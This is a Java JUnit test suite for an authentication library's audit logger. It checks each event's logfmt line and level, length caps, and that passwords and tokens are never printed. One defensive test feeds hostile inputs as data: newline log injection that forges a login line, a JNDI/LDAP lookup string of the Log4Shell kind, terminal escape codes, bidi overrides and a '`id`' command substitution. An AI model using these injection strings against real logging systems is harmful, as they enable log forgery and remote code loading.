package io.doorward.auth.event;

import static io.doorward.auth.event.AuthEvent.Level.ALARM;
import static io.doorward.auth.event.AuthEvent.Level.NOTABLE;
import static io.doorward.auth.event.AuthEvent.Level.ROUTINE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import io.doorward.auth.backend.Finding;
import io.doorward.auth.base.AccountId;
import io.doorward.auth.base.LoginId;
import io.doorward.auth.base.OperationId;
import io.doorward.auth.base.SessionId;
import io.doorward.auth.base.StoreException;
import io.doorward.auth.event.AccessEvent.Budget;
import io.doorward.auth.event.AccessEvent.BudgetSpent;
import io.doorward.auth.event.AccessEvent.HashUnreadable;
import io.doorward.auth.event.AccessEvent.LoggedOut;
import io.doorward.auth.event.AccessEvent.LoginOverLimit;
import io.doorward.auth.event.AccessEvent.LoginRefusal;
import io.doorward.auth.event.AccessEvent.LoginRejected;
import io.doorward.auth.event.AccessEvent.LoginSucceeded;
import io.doorward.auth.event.AccessEvent.LoginThrottled;
import io.doorward.auth.event.AccessEvent.LoginUnavailable;
import io.doorward.auth.event.AccessEvent.LostRotationRestored;
import io.doorward.auth.event.AccessEvent.NewDeviceLoggedIn;
import io.doorward.auth.event.AccessEvent.OldestSessionsEnded;
import io.doorward.auth.event.AccessEvent.RefreshRefusal;
import io.doorward.auth.event.AccessEvent.RefreshRejected;
import io.doorward.auth.event.AccessEvent.RefreshTokenReused;
import io.doorward.auth.event.AccessEvent.RequestRefusal;
import io.doorward.auth.event.AccessEvent.RequestRefused;
import io.doorward.auth.event.AccessEvent.SessionReplaced;
import io.doorward.auth.event.AccessEvent.SessionsRevoked;
import io.doorward.auth.event.AccessEvent.Source;
import io.doorward.auth.event.AccessEvent.Step;
import io.doorward.auth.event.AccessEvent.TokenRefusal;
import io.doorward.auth.event.AccessEvent.TokenRejected;
import io.doorward.auth.event.AccountEvent.AccountDeleted;
import io.doorward.auth.event.AccountEvent.AccountName;
import io.doorward.auth.event.AccountEvent.AccountsImported;
import io.doorward.auth.event.AccountEvent.CredentialRenewed;
import io.doorward.auth.event.AccountEvent.ExternalIdCleared;
import io.doorward.auth.event.AccountEvent.ExternalIdSet;
import io.doorward.auth.event.AccountEvent.IdentityLinked;
import io.doorward.auth.event.AccountEvent.IdentityUnlinked;
import io.doorward.auth.event.AccountEvent.LoginIdAdded;
import io.doorward.auth.event.AccountEvent.LoginIdChanged;
import io.doorward.auth.event.AccountEvent.LoginIdRemoved;
import io.doorward.auth.event.AccountEvent.NameChangeRefused;
import io.doorward.auth.event.AccountEvent.NameRefusal;
import io.doorward.auth.event.AccountEvent.PasswordChangeRefusal;
import io.doorward.auth.event.AccountEvent.PasswordChangeRefused;
import io.doorward.auth.event.AccountEvent.PasswordChanged;
import io.doorward.auth.event.AccountEvent.PasswordRehashed;
import io.doorward.auth.event.AccountEvent.PasswordSet;
import io.doorward.auth.event.AccountEvent.RolesChanged;
import io.doorward.auth.event.AccountEvent.SignUpRefusal;
import io.doorward.auth.event.AccountEvent.SignUpRefused;
import io.doorward.auth.event.AccountEvent.SignedUp;
import io.doorward.auth.event.AccountEvent.StatusChanged;
import io.doorward.auth.event.AuthEvent.Part;
import io.doorward.auth.event.ServiceEvent.BackendFailed;
import io.doorward.auth.event.ServiceEvent.BackendRecovered;
import io.doorward.auth.event.ServiceEvent.BackendUnavailable;
import io.doorward.auth.event.ServiceEvent.CacheFillSkipped;
import io.doorward.auth.event.ServiceEvent.CachedValue;
import io.doorward.auth.event.ServiceEvent.CleanedUp;
import io.doorward.auth.event.ServiceEvent.DriftFound;
import io.doorward.auth.event.ServiceEvent.FillFailure;
import io.doorward.auth.event.ServiceEvent.FindingReported;
import io.doorward.auth.event.ServiceEvent.InvalidationBacklog;
import io.doorward.auth.event.ServiceEvent.InvalidationsRelayed;
import io.doorward.auth.event.ServiceEvent.PrimaryDiscovered;
import io.doorward.auth.event.ServiceEvent.PrimaryWithdrawn;
import io.doorward.auth.event.ServiceEvent.SealedValueRejected;
import io.doorward.auth.password.Password;
import io.doorward.auth.session.AccessToken;
import java.nio.CharBuffer;
import java.time.Duration;
import java.time.Instant;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.UUID;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;

class AuditLogTest {
  private static final AccountId ANNA = new AccountId("anna");
  private static final SessionId S1 = new SessionId("s1");
  private static final SessionId S2 = new SessionId("s2");
  private static final Optional<String> NETWORK = Optional.of("192.0.2.7");
  private static final Map<AuthEvent.Level, Level> LOGGED_AT =
      Map.of(ROUTINE, Level.INFO, NOTABLE, Level.WARN, ALARM, Level.ERROR);
  private static final String NAME = "audit.of.the.test";

  private final Logger logger = (Logger) LoggerFactory.getLogger(NAME);
  private final ListAppender<ILoggingEvent> lines = new ListAppender<>();
  private final AuditLog log = AuditLog.named(NAME);

  @BeforeEach
  void listen() {
    lines.start();
    logger.setAdditive(false);
    logger.setLevel(Level.INFO);
    logger.addAppender(lines);
  }

  @AfterEach
  void stopListening() {
    logger.detachAppender(lines);
  }

  /** Every type of event that there is, with its line: a new type belongs here, too. */
  static Stream<Arguments> everyType() {
    return Stream.of(
        Arguments.of(
            new LoginSucceeded(
                ANNA,
                S1,
                NETWORK,
                Source.CACHE,
                Map.of(Step.HASHING, Duration.ofMillis(70), Step.THROTTLE, Duration.ofNanos(1000))),
            ROUTINE,
            "event=LoginSucceeded account=anna session=s1 network=192.0.2.7 source=CACHE"
                + " timings=HASHING:PT0.07S,THROTTLE:PT0.000001S"),
        Arguments.of(
            new NewDeviceLoggedIn(ANNA, S1, NETWORK, Optional.of("Firefox \"1\"")),
            ROUTINE,
            "event=NewDeviceLoggedIn account=anna session=s1 network=192.0.2.7"
                + " device=\"Firefox \\u00221\\u0022\""),
        Arguments.of(
            new LoginRejected(Optional.of(ANNA), LoginRefusal.WRONG_PASSWORD, NETWORK),
            NOTABLE,
            "event=LoginRejected account=anna reason=WRONG_PASSWORD network=192.0.2.7"),
        Arguments.of(
            new LoginThrottled(
                Optional.of("2001:db8:0:1:0:0:0:0/64"),
                Optional.of(Budget.NETWORK),
                Duration.ofSeconds(90)),
            NOTABLE,
            "event=LoginThrottled network=2001:db8:0:1:0:0:0:0/64 budget=NETWORK"
                + " retryAfter=PT1M30S"),
        Arguments.of(
            new LoginOverLimit(ANNA, 1, Optional.of("phone"), NETWORK),
            NOTABLE,
            "event=LoginOverLimit account=anna most=1 deviceKind=phone network=192.0.2.7"),
        Arguments.of(
            new BudgetSpent(Optional.of(ANNA), Budget.ACCOUNT, NETWORK),
            NOTABLE,
            "event=BudgetSpent account=anna budget=ACCOUNT network=192.0.2.7"),
        Arguments.of(
            new LoginUnavailable(Optional.empty()), NOTABLE, "event=LoginUnavailable network=-"),
        Arguments.of(
            new TokenRejected(Optional.empty(), TokenRefusal.INVALID),
            NOTABLE,
            "event=TokenRejected account=- reason=INVALID"),
        Arguments.of(
            new TokenRejected(Optional.of(ANNA), TokenRefusal.NO_SESSION),
            ROUTINE,
            "event=TokenRejected account=anna reason=NO_SESSION"),
        Arguments.of(
            new RefreshRejected(Optional.empty(), RefreshRefusal.INVALID),
            NOTABLE,
            "event=RefreshRejected account=- reason=INVALID"),
        Arguments.of(
            new RefreshRejected(Optional.of(ANNA), RefreshRefusal.NO_SESSION),
            ROUTINE,
            "event=RefreshRejected account=anna reason=NO_SESSION"),
        Arguments.of(
            new RefreshTokenReused(ANNA, S1, true, false),
            NOTABLE,
            "event=RefreshTokenReused account=anna session=s1 previous=true"
                + " cachePending=false"),
        Arguments.of(
            new LostRotationRestored(ANNA, S1, 7),
            NOTABLE,
            "event=LostRotationRestored account=anna session=s1 generation=7"),
        Arguments.of(
            new RequestRefused(Optional.of(ANNA), RequestRefusal.MISSING_ROLE, NETWORK),
            NOTABLE,
            "event=RequestRefused account=anna reason=MISSING_ROLE network=192.0.2.7"),
        Arguments.of(
            new SignedUp(ANNA, false), ROUTINE, "event=SignedUp account=anna cachePending=false"),
        Arguments.of(
            new SignUpRefused(SignUpRefusal.DUPLICATE, NETWORK),
            NOTABLE,
            "event=SignUpRefused reason=DUPLICATE network=192.0.2.7"),
        Arguments.of(
            new PasswordChanged(ANNA, true),
            NOTABLE,
            "event=PasswordChanged account=anna cachePending=true"),
        Arguments.of(
            new PasswordSet(ANNA, true),
            NOTABLE,
            "event=PasswordSet account=anna cachePending=true"),
        Arguments.of(
            new PasswordChangeRefused(
                Optional.of(ANNA), PasswordChangeRefusal.WRONG_PASSWORD, NETWORK),
            NOTABLE,
            "event=PasswordChangeRefused account=anna reason=WRONG_PASSWORD network=192.0.2.7"),
        Arguments.of(
            new SessionReplaced(ANNA, S1, S2),
            ROUTINE,
            "event=SessionReplaced account=anna ended=s1 session=s2"),
        Arguments.of(new PasswordRehashed(ANNA), ROUTINE, "event=PasswordRehashed account=anna"),
        Arguments.of(
            new StatusChanged(ANNA, "DISABLED", false),
            ROUTINE,
            "event=StatusChanged account=anna status=DISABLED cachePending=false"),
        Arguments.of(
            new LoginIdChanged(ANNA, false),
            ROUTINE,
            "event=LoginIdChanged account=anna cachePending=false"),
        Arguments.of(
            new LoginIdAdded(ANNA, false),
            ROUTINE,
            "event=LoginIdAdded account=anna cachePending=false"),
        Arguments.of(
            new LoginIdRemoved(ANNA, true),
            NOTABLE,
            "event=LoginIdRemoved account=anna cachePending=true"),
        Arguments.of(new ExternalIdSet(ANNA), ROUTINE, "event=ExternalIdSet account=anna"),
        Arguments.of(new ExternalIdCleared(ANNA), ROUTINE, "event=ExternalIdCleared account=anna"),
        Arguments.of(
            new IdentityLinked(ANNA, "https://id.example"),
            ROUTINE,
            "event=IdentityLinked account=anna issuer=https://id.example"),
        Arguments.of(
            new IdentityUnlinked(ANNA, "https://id.example"),
            ROUTINE,
            "event=IdentityUnlinked account=anna issuer=https://id.example"),
        Arguments.of(
            new NameChangeRefused(ANNA, AccountName.LOGIN_ID, NameRefusal.LAST),
            NOTABLE,
            "event=NameChangeRefused account=anna name=LOGIN_ID reason=LAST"),
        Arguments.of(
            new CredentialRenewed(ANNA, false),
            ROUTINE,
            "event=CredentialRenewed account=anna cachePending=false"),
        Arguments.of(
            new AccountDeleted(ANNA, false),
            ROUTINE,
            "event=AccountDeleted account=anna cachePending=false"),
        Arguments.of(
            new AccountsImported(3, 2, 1, true),
            NOTABLE,
            "event=AccountsImported created=3 present=2 refused=1 complete=true"),
        Arguments.of(
            new RolesChanged(ANNA, Set.of("editor", "admin"), false),
            ROUTINE,
            "event=RolesChanged account=anna roles=admin,editor cachePending=false"),
        Arguments.of(
            new LoggedOut(ANNA, S1, false),
            ROUTINE,
            "event=LoggedOut account=anna session=s1 cachePending=false"),
        Arguments.of(
            new SessionsRevoked(ANNA, 3, false),
            ROUTINE,
            "event=SessionsRevoked account=anna sessions=3 cachePending=false"),
        Arguments.of(
            new OldestSessionsEnded(ANNA, 2, true),
            NOTABLE,
            "event=OldestSessionsEnded account=anna sessions=2 cachePending=true"),
        Arguments.of(
            new CacheFillSkipped(FillFailure.DROPPED),
            NOTABLE,
            "event=CacheFillSkipped failure=DROPPED"),
        Arguments.of(
            new CacheFillSkipped(FillFailure.REFUSED),
            ROUTINE,
            "event=CacheFillSkipped failure=REFUSED"),
        Arguments.of(
            new SealedValueRejected("user record"),
            ALARM,
            "event=SealedValueRejected what=\"user record\""),
        Arguments.of(
            new BackendFailed(Part.TOKEN_STORE, StoreException.Kind.TIMEOUT),
            NOTABLE,
            "event=BackendFailed backend=\"token store\" kind=TIMEOUT"),
        Arguments.of(
            new BackendFailed(Part.OUTBOX, StoreException.Kind.MISCONFIGURED),
            ALARM,
            "event=BackendFailed backend=outbox kind=MISCONFIGURED"),
        Arguments.of(
            new BackendUnavailable("Redis", StoreException.Kind.TIMEOUT),
            ALARM,
            "event=BackendUnavailable backend=Redis last=TIMEOUT"),
        Arguments.of(
            new BackendRecovered("Redis", Duration.ofSeconds(3)),
            NOTABLE,
            "event=BackendRecovered backend=Redis after=PT3S"),
        Arguments.of(
            new HashUnreadable(ANNA, "bcrypt with the cost 15: the highest is 14"),
            NOTABLE,
            "event=HashUnreadable account="
                + ANNA
                + " why=\"bcrypt with the cost 15: the highest is 14\""),
        Arguments.of(
            new PrimaryDiscovered("run:1/repl:2", true),
            ROUTINE,
            "event=PrimaryDiscovered identity=run:1/repl:2 believed=true"),
        Arguments.of(
            new PrimaryDiscovered("run:1/repl:2", false),
            NOTABLE,
            "event=PrimaryDiscovered identity=run:1/repl:2 believed=false"),
        Arguments.of(
            new PrimaryWithdrawn("run:1/repl:2"),
            NOTABLE,
            "event=PrimaryWithdrawn identity=run:1/repl:2"),
        Arguments.of(
            new InvalidationsRelayed(2, 0),
            ROUTINE,
            "event=InvalidationsRelayed delivered=2 failed=0"),
        Arguments.of(
            new InvalidationsRelayed(2, 1),
            NOTABLE,
            "event=InvalidationsRelayed delivered=2 failed=1"),
        Arguments.of(
            new InvalidationBacklog(12, Duration.ofMinutes(2)),
            ALARM,
            "event=InvalidationBacklog pending=12 oldest=PT2M"),
        Arguments.of(
            new DriftFound(ANNA, CachedValue.CREDENTIAL, true),
            ALARM,
            "event=DriftFound account=anna what=CREDENTIAL repaired=true"),
        Arguments.of(
            new CleanedUp(1, 2, 3),
            ROUTINE,
            "event=CleanedUp sessions=1 outboxRows=2 operations=3"));
  }

  @ParameterizedTest
  @MethodSource("everyType")
  void everyEventHasItsLineAndItsLevel(AuthEvent event, AuthEvent.Level level, String line) {
    log.on(event);

    assertThat(event.level()).isEqualTo(level);
    assertThat(lines.list)
        .singleElement()
        .extracting(ILoggingEvent::getLevel)
        .isEqualTo(LOGGED_AT.get(level));
    assertThat(line()).isEqualTo(line);
  }

  @Test
  void noTypeOfEventIsMissingAbove() {
    assertThat(everyType().<Class<?>>map(each -> each.get()[0].getClass()).distinct())
        .containsExactlyInAnyOrder(
            Stream.of(AccessEvent.class, AccountEvent.class, ServiceEvent.class)
                .flatMap(topic -> Stream.of(topic.getDeclaredClasses()))
                .filter(AuthEvent.class::isAssignableFrom)
                .filter(type -> type != FindingReported.class)
                .toArray(Class<?>[]::new));
  }

  @Test
  void aFindingIsLeftToTheServiceThatLogsItUncut() {
    log.on(FindingReported.of("Redis", Finding.refusal("redis.pool", "it is odd", "Look")));

    assertThat(lines.list).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "a\nevent=LoginSucceeded account=root",
        "a\r\nb",
        "a\u2028b",
        "a\u2029b",
        "a\u0085b",
        "a\u000bb\fc",
        "\u202eevil\u202c",
        "\u2066a\u2069",
        "\u001b[2J\u001b]0;title\u0007",
        "\u009b31m",
        "\" event=LoginSucceeded x=\"",
        "\\\" event=Fake",
        "\\",
        "${jndi:ldap://192.0.2.1/a}",
        "%m{} {} {0}",
        "\0",
        "\ud800",
        "\ud83d\ude00",
        "caf\u00e9",
        "\ufeffa\u200bb",
        "a=b",
        "<script>",
        "`id`",
        "a\tb",
        "",
        "-",
        " ",
        "~",
      })
  void whateverAValueHoldsItStaysOneValueOnOneLine(String hostile) {
    log.on(new BackendUnavailable(hostile, StoreException.Kind.TIMEOUT));

    assertThat(line())
        .matches(
            "event=BackendUnavailable backend=\"([A-Za-z0-9_.:/@+, ;()'#*!?-]|\\\\u[0-9a-f]{4})*\""
                + " last=TIMEOUT");
    assertThat(unescaped(line())).isEqualTo(hostile);
  }

  @Test
  void aTextThatIsOnlyTooLongIsCutAndSaysSo() {
    log.on(new SealedValueRejected("a".repeat(129)));
    assertThat(line()).isEqualTo("event=SealedValueRejected what=" + "a".repeat(128) + "~");

    log.on(new SealedValueRejected("a".repeat(128)));
    assertThat(line()).isEqualTo("event=SealedValueRejected what=" + "a".repeat(128));
  }

  @Test
  void noLineIsLongerThanItsBound() {
    Set<String> roles = Collections.newSetFromMap(new LinkedHashMap<>());
    IntStream.range(0, 10_000).forEach(i -> roles.add(i + "\u202e".repeat(5_000)));
    log.on(new RolesChanged(ANNA, roles, true));

    assertThat(line()).isEqualTo("event=RolesChanged account=anna ~");

    log.on(
        new RolesChanged(
            ANNA, Set.copyOf(IntStream.range(0, 100).mapToObj(i -> "r" + i).toList()), true));
    assertThat(line())
        .hasSizeLessThan(200)
        .startsWith("event=RolesChanged account=anna roles=r0,r1,r10,")
        .endsWith("~ cachePending=true");
  }

  @Test
  void anElementIsNotTwo() {
    log.on(new RolesChanged(ANNA, Set.of("a,b", "c"), false));

    assertThat(line())
        .isEqualTo("event=RolesChanged account=anna roles=\"a\\u002cb,c\" cachePending=false");
  }

  /** An application's own event. */
  record OwnEvent(
      AccountId account,
      UUID id,
      OperationId operation,
      List<String> order,
      Map<String, Instant> times,
      Optional<Long> count,
      double part)
      implements AuthEvent {
    @Override
    public AuthEvent.Level level() {
      return ALARM;
    }
  }

  @Test
  void anEventOfAnApplicationIsLoggedByItsComponents() {
    UUID id = new UUID(1, 2);
    log.on(
        new OwnEvent(
            ANNA,
            id,
            new OperationId("op"),
            List.of("z", "a"),
            Map.of("a:b", Instant.EPOCH),
            Optional.of(7L),
            0.5));

    assertThat(line())
        .isEqualTo(
            "event=io.doorward.auth.event.AuditLogTest.OwnEvent account=anna id="
                + id
                + " operation=op order=z,a times=\"a\\u003ab:1970-01-01T00:00:00Z\" count=7"
                + " part=0.5");
  }

  /** What no event should hold, and one that was never told of that does. */
  record Careless(
      LoginId login,
      Password password,
      Optional<AccessToken> token,
      Object key,
      Object text,
      CharSequence buffer,
      List<Object> more,
      Map<Object, Object> map,
      Supplied nested)
      implements AuthEvent {}

  /** Prints what must not be printed. */
  record Supplied(String secret) {}

  @Test
  void whatMayBeASecretIsNamedByItsTypeAndNeverShown() {
    String secret = "correct-horse-battery";
    log.on(
        new Careless(
            LoginId.email("correct-horse-battery@example.org"),
            Password.of(secret),
            Optional.of(AccessToken.of(secret)),
            secret.getBytes(UTF_8),
            secret.toCharArray(),
            CharBuffer.wrap(secret),
            List.of(Password.of(secret), CharBuffer.wrap(secret), List.of(secret)),
            Map.of(new Supplied(secret), new Supplied(secret)),
            new Supplied(secret)));

    assertThat(line())
        .doesNotContain("correct")
        .contains("login=\"(LoginId)\" password=\"(Password)\" token=\"(AccessToken)\"")
        .contains("key=\"(byte\\u005b\\u005d)\"")
        .endsWith("map=\"(Supplied):(Supplied)\" nested=\"(Supplied)\"");
  }

  /** Does not answer. */
  record Broken(String first, String second) implements AuthEvent {
    @Override
    public String first() {
      throw new IllegalStateException("thrown by the test");
    }
  }

  @Test
  void aComponentThatThrowsDoesNotTakeTheLineAlong() {
    log.on(new Broken("a", null));

    assertThat(line()).endsWith("Broken first=\"(unreadable)\" second=-");
  }

  @Test
  void anEventThatIsNoRecordIsLoggedByItsNameOnly() {
    AuthEvent event =
        new AuthEvent() {
          @Override
          public String toString() {
            return "a secret";
          }
        };
    log.on(event);

    assertThat(line()).isEqualTo("event=io.doorward.auth.event.AuditLogTest.1");
    assertThat(lines.list.get(0).getLevel()).isEqualTo(Level.INFO);
  }

  @Test
  void whatTheLoggerDoesNotWantIsNotEvenWritten() {
    logger.setLevel(Level.ERROR);
    log.on(new Broken("a", "b"));

    assertThat(lines.list).isEmpty();
  }

  @Test
  void theLineIsNoFormatThatALoggerFillsIn() {
    log.on(new SealedValueRejected("{} {}"));

    assertThat(lines.list.get(0).getArgumentArray()).isNullOrEmpty();
    assertThat(line()).isEqualTo(lines.list.get(0).getMessage());
  }

  @Test
  void theUsualLoggerIsThatOfTheLibrary() {
    Logger usual = (Logger) LoggerFactory.getLogger("doorward.audit");
    usual.addAppender(lines);
    try {
      AuditLog.create().on(new SealedValueRejected("session"));
    } finally {
      usual.detachAppender(lines);
    }

    assertThat(line()).isEqualTo("event=SealedValueRejected what=session");
  }

  @Test
  void aLoggerWithoutANameIsRefused() {
    assertThatThrownBy(() -> AuditLog.named(null)).isInstanceOf(NullPointerException.class);
  }

  /** The last line that was logged. */
  private String line() {
    return lines.list.get(lines.list.size() - 1).getFormattedMessage();
  }

  /** What a reader of logfmt finds behind the first quote. */
  private static String unescaped(String line) {
    String quoted = line.substring(line.indexOf('"') + 1, line.lastIndexOf('"'));
    StringBuilder text = new StringBuilder();
    for (int i = 0; i < quoted.length(); i++) {
      if (quoted.startsWith("\\u", i)) {
        text.append((char) Integer.parseInt(quoted.substring(i + 2, i + 6), 16));
        i += 5;
      } else {
        text.append(quoted.charAt(i));
      }
    }
    return text.toString();
  }
}
